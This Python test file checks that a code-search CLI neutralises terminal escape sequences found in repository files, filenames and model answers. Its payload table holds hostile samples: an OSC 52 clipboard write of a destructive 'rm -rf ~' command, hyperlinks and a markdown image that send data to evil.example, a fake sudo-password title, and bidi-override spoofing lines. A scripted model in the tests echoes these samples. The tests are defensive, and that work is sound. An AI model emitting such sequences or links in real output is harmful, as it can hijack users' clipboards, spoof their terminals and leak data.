"""Repository and model text never drives the user's terminal: every control shows as text.

A hostile repository holds each class of terminal control sequence, in its files and in a
file's name; every CLI output path runs on it as a user runs it, and none may let a raw
ESC, C1 control, BEL or bidi override through.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import threading
import tty
from pathlib import Path

import pytest
from codeqa.tui.cli import main
from codeqa.tui.terminal_text import visible

# Each class, in spellings of our own: 7-bit and 8-bit, terminated by BEL, ST or C1 ST.
PAYLOADS = {
    "osc52 clipboard": "\x1b]52;c;cm0gLXJmIH4K\x1b\\",
    "osc8 hyperlink": "\x1b]8;id=1;https://evil.example/?d=1\x07here\x1b]8;;\x07",
    "osc0 window title": "\x1b]0;sudo password please\x9c",
    "osc2 title": "\x1b]2;owned\x1b\\",
    "csi clear screen": "\x1b[2J\x1b[3J\x1b[H",
    "csi hidden text": "\x1b[8mhidden\x1b[28m",
    "csi cursor up": "\x1b[3A\x1b[2K",
    "dcs": "\x1bP$qm\x1b\\",
    "apc": "\x1b_payload\x1b\\",
    "8-bit csi": "\x9b31;1m",
    "8-bit osc": "\x9d52;c;ZXZpbAo=\x07",
    "8-bit dcs": "\x90+q544e\x9c",
    "lone cr": "checked = True\rchecked = False",
    "backspaces": "safe\x08\x08\x08\x08evil",
    "del": "x\x7fy",
    "bell": "ring\x07",
    "rlo override": "access = 'user\u202e \u2066// admin\u2069 \u2066'",
    "lri isolates": "\u2067if is_admin:\u2069",
    "lre pdf": "\u202atext\u202c",
}
# The characters that may never reach a terminal raw from repository or model text.
FORBIDDEN = (
    {chr(c) for c in range(0x20)} - {"\n", "\t"}
    | {"\x7f"}
    | {chr(c) for c in range(0x80, 0xA0)}
    | {chr(c) for c in range(0x202A, 0x202F)}
    | {chr(c) for c in range(0x2066, 0x206A)}
)
MARKER = "zebracorn"  # a word only the hostile lines hold, so search finds them
HOSTILE_NAME = "evil\x1b]0;named\x07\u202e.py"
# The folder a `git clone` makes is named by the repository: it is printed too.
HOSTILE_FOLDER = "clone\x1b]2;title\x07\x9b8m"


def raw_controls(text: str) -> list[str]:
    """The forbidden characters in `text`, as Python would spell them."""
    return sorted({repr(char) for char in text if char in FORBIDDEN})


def hostile_source() -> str:
    lines = ['"""A module whose comments try to drive the terminal."""', ""]
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        lines.append(f"# {MARKER} {name}: {payload}")
        lines.append(f"def {MARKER}_{number}():")
        lines.append(f"    return '{MARKER} {payload}'")
        lines.append("")
    lines.append(f"def {MARKER}_caller():")
    lines.append(f"    return {MARKER}_0()")
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def hostile_repo(tmp_path_factory) -> tuple[Path, Path]:
    """A git repository with the payloads in a file, a file's name and its folder's name,
    indexed once."""
    base = tmp_path_factory.mktemp("hostile")
    repo = base / HOSTILE_FOLDER
    repo.mkdir()
    (repo / "payloads.py").write_text(hostile_source())
    (repo / HOSTILE_NAME).write_text(
        f"from payloads import {MARKER}_0\n\n\ndef {MARKER}_named():\n    return {MARKER}_0()\n"
    )
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    index_dir = base / "index"
    assert main(["index", str(repo), *index_args(repo, index_dir)[2:]]) == 0
    return repo, index_dir


def run_cli(capsys, *argv: str) -> tuple[int, str]:
    """`codeqa ARGV` run as a user runs it; its exit status and all it printed."""
    capsys.readouterr()
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def index_args(repo: Path, index_dir: Path) -> list[str]:
    return ["--repo", str(repo), "--index-dir", str(index_dir), "--embed-model", "wordllama"]


# ---- the neutraliser -----------------------------------------------------------------------


@pytest.mark.parametrize("name", PAYLOADS)
def test_every_control_class_is_made_visible_and_the_rest_of_the_text_kept(name):
    payload = PAYLOADS[name]
    shown = visible(f"before {payload} after\n\tindented")
    assert raw_controls(shown) == []
    assert shown.startswith("before ") and shown.endswith(" after\n\tindented")


def test_controls_show_as_control_pictures_and_c1_and_bidi_as_code_points():
    assert visible("\x1b]52;c;x\x07") == "␛]52;c;x␇"
    assert visible("a\rb\x08c\x7f") == "a␍b␈c␡"
    assert visible("\x9b2J") == "<U+009B>2J"
    assert visible("\u202eevil\u2069") == "<U+202E>evil<U+2069>"


def test_each_control_becomes_one_stand_in_so_line_numbers_and_lines_stay():
    text = "one\x1b[2J\ntwo\x0c\nthree\u2028four\n"
    shown = visible(text)
    assert shown.split("\n") == ["one␛[2J", "two␌", "three<U+2028>four", ""]


def test_plain_code_unicode_and_markdown_pass_unchanged():
    code = "def café(x):\n\treturn f'{x!r} → ✓ 日本'  # [bold]not markup[/bold]\n"
    assert visible(code) == code


# ---- every CLI output path ----------------------------------------------------------------


@pytest.mark.slow
def test_index_summary_names_the_hostile_folder_visibly(tmp_path, capsys):
    repo = tmp_path / HOSTILE_FOLDER
    repo.mkdir()
    (repo / "payloads.py").write_text(hostile_source())
    (repo / HOSTILE_NAME).write_text("x = 1\n")
    code, out = run_cli(
        capsys, "index", str(repo), "--index-dir", str(tmp_path / "i"), "--embed-model", "wordllama"
    )
    assert code == 0
    assert f"indexed {tmp_path / visible(HOSTILE_FOLDER)}" in out
    assert raw_controls(out) == []


@pytest.mark.slow
@pytest.mark.parametrize("mode", ["bm25", "hybrid"])
def test_search_results_show_the_hostile_lines_without_raw_controls(hostile_repo, capsys, mode):
    repo, index_dir = hostile_repo
    code, out = run_cli(
        capsys, "search", f"{MARKER} clipboard", *index_args(repo, index_dir), "--mode", mode
    )
    assert code == 0
    assert MARKER in out and "payloads.py:" in out
    assert "␛]" in out  # the sequence is still there to see, as text
    assert raw_controls(out) == []


@pytest.mark.slow
def test_search_finds_a_file_whose_name_holds_escapes_and_prints_it_visibly(hostile_repo, capsys):
    repo, index_dir = hostile_repo
    code, out = run_cli(capsys, "search", f"{MARKER}_named", *index_args(repo, index_dir))
    assert code == 0
    assert visible(HOSTILE_NAME) in out
    assert raw_controls(out) == []


@pytest.mark.slow
def test_search_json_stays_valid_and_carries_the_text_exactly(hostile_repo, capsys):
    repo, index_dir = hostile_repo
    code, out = run_cli(
        capsys,
        "search",
        f"{MARKER} osc52",
        *index_args(repo, index_dir),
        "--json",
        "--mode",
        "bm25",
    )
    assert code == 0
    assert raw_controls(out) == []
    rows = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    source = (repo / "payloads.py").read_bytes().decode().split("\n")
    hit = next(row for row in rows if row["path"] == "payloads.py")
    assert hit["text"] == "\n".join(source[hit["start_line"] - 1 : hit["end_line"]])
    assert any(payload in hit["text"] for payload in PAYLOADS.values())


@pytest.mark.slow
@pytest.mark.parametrize("extra", [[], ["--show-sources"]])
def test_offline_ask_and_its_sources_show_no_raw_controls(hostile_repo, capsys, monkeypatch, extra):
    monkeypatch.delenv("CODEQA_MODEL", raising=False)
    repo, index_dir = hostile_repo
    code, out = run_cli(
        capsys, "ask", f"what does {MARKER}_0 return?", *index_args(repo, index_dir), *extra
    )
    assert code == 0
    assert "payloads.py:" in out
    assert raw_controls(out) == []


@pytest.mark.slow
def test_chunks_lines_and_json_show_no_raw_controls(hostile_repo, capsys):
    repo, _ = hostile_repo
    for extra in ([], ["--json"]):
        code, out = run_cli(capsys, "chunks", str(repo), *extra)
        assert code == 0
        assert raw_controls(out) == []
    rows = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
    assert any(PAYLOADS["8-bit osc"] in row["text"] for row in rows)  # exact, escaped in JSON


@pytest.mark.slow
@pytest.mark.parametrize("command", ["refs", "callers", "impact"])
def test_code_graph_answers_name_the_hostile_file_visibly(hostile_repo, capsys, command):
    repo, index_dir = hostile_repo
    target = "payloads.py" if command == "impact" else f"{MARKER}_0"
    code, out = run_cli(capsys, command, target, *index_args(repo, index_dir))
    assert code == 0
    assert visible(HOSTILE_NAME) in out  # it imports and calls the target
    assert raw_controls(out) == []


@pytest.mark.slow
def test_status_shows_no_raw_controls(hostile_repo, capsys):
    repo, index_dir = hostile_repo
    code, out = run_cli(capsys, "status", *index_args(repo, index_dir))
    assert code == 0
    assert visible(HOSTILE_FOLDER) in out
    assert raw_controls(out) == []


def test_an_error_line_naming_a_hostile_folder_shows_it_visibly(tmp_path, capsys):
    folder = tmp_path / "clone\x1b]52;c;eA==\x07\x9b2J"
    folder.mkdir()
    subprocess.run(["git", "init", "-q", str(folder)], check=True)
    code, out = run_cli(
        capsys, "search", "x", "--repo", str(folder), "--index-dir", str(tmp_path / "none")
    )
    assert code != 0 and "codeqa: error" in out
    assert "clone␛]52" in out
    assert raw_controls(out) == []


# ---- a model's answer --------------------------------------------------------------------


def echo_the_payloads(messages: list[dict]) -> str:
    """A model that plans nothing, then repeats every escape it was shown, and links out."""
    if messages[0]["content"].startswith("You plan searches"):
        return "{}"
    return "It returns " + "".join(PAYLOADS.values()) + " and see ![x](https://evil.example/?d=k)."


def ask_the_echo_model(repo, index_dir) -> list[str]:
    """`codeqa ask` arguments for a keyword-only question answered by the echoing model."""
    question = f"what does {MARKER}_0 return?"
    model = ["--model", "scripted/echo", "--mode", "bm25"]
    return ["ask", question, *index_args(repo, index_dir), *model]


@pytest.mark.slow
def test_ask_with_a_model_repeating_escapes_prints_them_visibly(
    hostile_repo, capsys, scripted, monkeypatch
):
    scripted(otherwise=echo_the_payloads)
    repo, index_dir = hostile_repo
    code, out = run_cli(capsys, *ask_the_echo_model(repo, index_dir), "--show-sources")
    assert code == 0, out
    assert "It returns ␛]52;c;" in out
    assert "?d=k" not in out  # the image's address, with its data, is gone
    assert raw_controls(out) == []


@pytest.mark.slow
def test_ask_json_with_a_model_keeps_the_answer_valid_json_without_the_image(
    hostile_repo, capsys, scripted
):
    scripted(otherwise=echo_the_payloads)
    repo, index_dir = hostile_repo
    code, out = run_cli(capsys, *ask_the_echo_model(repo, index_dir), "--json")
    assert code == 0, out
    reply = json.loads(out[out.index("{") :])
    assert PAYLOADS["osc52 clipboard"] in reply["answer"]  # JSON carries text exactly
    assert "?d=k" not in reply["answer"]
    assert any(note.startswith("Links check") for note in reply["notes"])


def on_a_terminal(argv: list[str]) -> bytes:
    """Run `codeqa ARGV` in this process with stdout and stderr on a pseudo-terminal.

    The terminal is raw (no newline translation), so the bytes read are exactly the bytes
    the CLI wrote: what a user's terminal emulator would interpret.
    """
    leader, follower = pty.openpty()
    tty.setraw(follower)
    received = bytearray()

    def drain() -> None:
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                return
            if not chunk:
                return
            received.extend(chunk)

    reader = threading.Thread(target=drain, daemon=True)
    reader.start()
    terminal = open(follower, "w", encoding="utf-8", closefd=False)  # noqa: SIM115
    saved = sys.stdout, sys.stderr
    sys.stdout = sys.stderr = terminal
    try:
        code = main(argv)
    finally:
        terminal.flush()
        sys.stdout, sys.stderr = saved
        terminal.close()
        os.close(follower)
        reader.join(10)
        os.close(leader)
    assert code == 0, bytes(received).decode("utf-8", "replace")
    return bytes(received)


def without_progress_redraws(output: bytes) -> str:
    """The terminal output less the progress bar's own redraw (CR, erase line)."""
    return output.replace(b"\r\x1b[2K", b"").decode("utf-8")


@pytest.mark.slow
def test_a_streamed_answer_on_a_terminal_carries_no_raw_controls(hostile_repo, scripted, tmp_path):
    scripted(otherwise=echo_the_payloads)
    repo, built = hostile_repo
    index_dir = tmp_path / "index"
    subprocess.run(["cp", "-r", str(built), str(index_dir)], check=True)
    (repo / "later.py").write_text(f"# {MARKER} {PAYLOADS['osc8 hyperlink']}\n")  # a progress line
    try:
        output = on_a_terminal(ask_the_echo_model(repo, index_dir))
    finally:
        (repo / "later.py").unlink()
    shown = without_progress_redraws(output)
    assert "It returns ␛]52;c;" in shown  # streamed, then checked
    assert raw_controls(shown) == []
